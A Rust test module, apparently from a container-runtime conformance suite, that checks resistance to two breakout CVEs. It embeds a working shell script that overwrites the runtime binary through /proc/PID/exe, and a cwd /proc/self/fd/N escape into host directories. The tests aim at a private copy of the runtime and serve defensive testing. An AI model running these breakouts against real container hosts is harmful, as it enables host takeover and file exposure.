//! Container breakouts, attacked for real. CVE-2019-5736: a process in the container keeps a
//! read-only fd to the runtime binary (through /proc/PID/exe of a runtime process that became
//! visible in the container, or that the container's program turned into by resolving to
//! /proc/self/exe) and reopens it for writing once the runtime has exited. The case attacks a
//! copy of the runtime binary and compares its bytes afterwards.

use std::io::Write;
use std::process::Stdio;
use std::time::Duration;

use super::{Case, Outcome};
use crate::ctx::Ctx;
use crate::spec;
use crate::{check, check_eq};
use anyhow::{Context, Result};

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("security", "cve_2019_5736_runtime_overwrite", cve_2019_5736),
        Case::new("security", "cve_2024_21626_cwd_through_a_leaked_fd", cve_2024_21626),
    ]
}

/// The container's program: opens /proc/PID/exe of every process that is not busybox, and
/// keeps trying to reopen each for writing and write over it.
const ATTACKER: &str = r#"
: > /tmp/attack.log
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$$" ] && continue
    t=$(readlink /proc/$p/exe 2>/dev/null) || continue
    case "$t" in /bin/busybox|"") continue ;; esac
    (
      exec 3</proc/$p/exe || exit 0
      echo "holding $t of pid $p" >> /tmp/attack.log
      i=0
      while [ $i -lt 300 ]; do
        if (exec 4>/proc/self/fd/3 && echo PWNED >&4) 2>/dev/null; then
          echo "overwrote $t" >> /tmp/attack.log
          exit 0
        fi
        i=$((i + 1))
        sleep 0.01
      done
    ) &
  done
done
"#;

fn cve_2019_5736(ctx: &mut Ctx) -> Result<Outcome> {
    // The attack target: a private copy, so a vulnerable runtime only breaks the copy.
    let copy = ctx.path("runtime-copy");
    std::fs::copy(&ctx.rt().path, &copy).context("copy the runtime binary")?;
    let original = std::fs::read(&copy)?;

    let mut b = ctx.bundle()?;
    // busybox must be a copy too: the attacker never writes it, but be safe.
    let bb = b.rootfs().join("bin/busybox");
    let bytes = std::fs::read(&bb)?;
    std::fs::remove_file(&bb)?;
    std::fs::write(&bb, bytes)?;
    std::fs::set_permissions(&bb, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    std::os::unix::fs::symlink("/proc/self/exe", b.rootfs().join("evil"))?;
    spec::set(&mut b.config, "/root/readonly", serde_json::json!(false))?;
    spec::shell(&mut b.config, ATTACKER)?;
    let id = ctx.id();
    ctx.run_as(&b, &id, &["--detach"])?.ok("run --detach")?;
    std::thread::sleep(Duration::from_millis(300));

    // `exec /evil update -r - x`: a vulnerable runtime runs its own binary in the container,
    // reading stdin, which stays open for 2 s to give the attacker time.
    let mut child = ctx
        .rt()
        .command(&copy)
        .args(["exec", &id, "/evil", "update", "-r", "-", "x"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .context("run the runtime copy")?;
    let mut stdin = child.stdin.take();
    std::thread::sleep(Duration::from_secs(2));
    if let Some(s) = stdin.as_mut() {
        let _ = s.write_all(b"{}");
    }
    drop(stdin);
    let _ = child.wait();
    // Also a plain exec, whose own process is visible in the container until its execve.
    for _ in 0..5 {
        let _ = ctx.rt().command(&copy).args(["exec", &id, "true"]).output();
    }
    std::thread::sleep(Duration::from_secs(3));
    let log = std::fs::read_to_string(b.rootfs().join("tmp/attack.log")).unwrap_or_default();
    let after = std::fs::read(&copy)?;
    check!(!log.contains("overwrote"), "the attacker overwrote the runtime binary: {log}");
    check_eq!(after.len(), original.len(), "size of the runtime binary after the attack ({log})");
    check!(after == original, "the runtime binary changed: {log}");
    Ok(Outcome::Pass)
}

/// CVE-2024-21626: process.cwd set to /proc/self/fd/N lands on a directory fd the runtime
/// still holds during setup, outside the rootfs. The runtime must refuse it or keep the
/// process inside: marker files beside the runtime's state and the bundle must stay unseen.
fn cve_2024_21626(ctx: &mut Ctx) -> Result<Outcome> {
    let marker = "MARKER-cve-2024-21626";
    std::fs::create_dir_all(&ctx.rt().root)?;
    std::fs::write(ctx.rt().root.join(marker), b"")?;
    std::fs::write(ctx.dir.join(marker), b"")?;
    let mut escaped = Vec::new();
    for n in 3..=12 {
        let mut b = ctx.bundle()?;
        spec::set(&mut b.config, "/process/cwd", serde_json::json!(format!("/proc/self/fd/{n}")))?;
        spec::shell(&mut b.config, "ls .. ../.. ../../.. 2>/dev/null")?;
        let (_, out) = ctx.run(&b)?;
        if out.stdout.contains(marker) {
            escaped.push(n);
        }
    }
    let _ = std::fs::remove_file(ctx.rt().root.join(marker));
    check!(escaped.is_empty(), "the process reached the host through cwd /proc/self/fd/N for N in {escaped:?}");
    Ok(Outcome::Pass)
}
